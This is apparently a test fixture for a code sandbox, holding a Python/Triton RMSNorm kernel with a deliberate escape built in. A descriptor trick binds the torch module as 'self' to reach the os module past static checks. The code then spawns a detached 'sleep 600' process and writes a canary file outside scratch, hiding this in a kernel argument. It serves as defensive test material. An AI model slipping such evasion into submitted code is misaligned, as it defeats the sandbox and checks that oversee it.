"""Exploit (private attribute, class 9): a descriptor's `__get__` is handed the class it is read
through (`K.d`): it calls the class's method with the torch module as `self`.

The payload: with `self` bound to the torch module, `self._import_dotted_name("os")` is the
os module (torch imports by name with the real builtins there); then a detached `sleep 600`
and a canary outside scratch. Gain if porous: a process and files outside the sandbox. Right answer
only if one of them worked.
"""
# expect: static=static runtime=sandbox-violation|mismatch

from __future__ import annotations

import torch
import triton
import triton.language as tl


class _Reach:
    def __get__(self, obj, owner=None):
        return owner.reach(torch)


class K:
    _import_dotted_name = None  # its own private name, so only the rule on `self` can stop the read

    def reach(self):
        return self._import_dotted_name("os")

    d = _Reach()


def _spawn_and_write(os) -> bool:
    worked = False
    try:
        os.posix_spawn("/bin/sleep", ["sleep", "600"], {}, setsid=True)
        worked = True
    except Exception as exc:  # noqa: BLE001
        print("spawn refused:", exc, flush=True)
    try:
        fd = os.open("/tmp/kernelloop-canary-descriptor-owner", os.O_WRONLY | os.O_CREAT, 0o600)
        os.close(fd)
        worked = True
    except Exception as exc:  # noqa: BLE001
        print("canary refused:", exc, flush=True)
    return worked


@triton.jit
def _rmsnorm_kernel(x_ptr, w_ptr, y_ptr, stride_x, stride_y, n_cols, eps, NORMALIZE: tl.constexpr,
                    BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offs = tl.arange(0, BLOCK)
    mask = offs < n_cols
    x = tl.load(x_ptr + row * stride_x + offs, mask=mask, other=0.0).to(tl.float32)
    w = tl.load(w_ptr + offs, mask=mask, other=0.0).to(tl.float32)
    if NORMALIZE:
        y = x * tl.rsqrt(tl.sum(x * x, axis=0) / n_cols + eps) * w
    else:
        y = x * w
    tl.store(y_ptr + row * stride_y + offs, y.to(y_ptr.dtype.element_ty), mask=mask)


def forward(x: torch.Tensor, weight: torch.Tensor, eps: float) -> torch.Tensor:
    n = x.shape[-1]
    x2 = x.reshape(-1, n)
    rows = x2.shape[0]
    y = torch.empty((rows, n), dtype=x.dtype, device=x.device)
    _rmsnorm_kernel[(rows,)](x2, weight, y, x2.stride(0), y.stride(0), n, eps, NORMALIZE=_spawn_and_write(K.d),
                             BLOCK=triton.next_power_of_2(n))
    return y.view(x.shape)
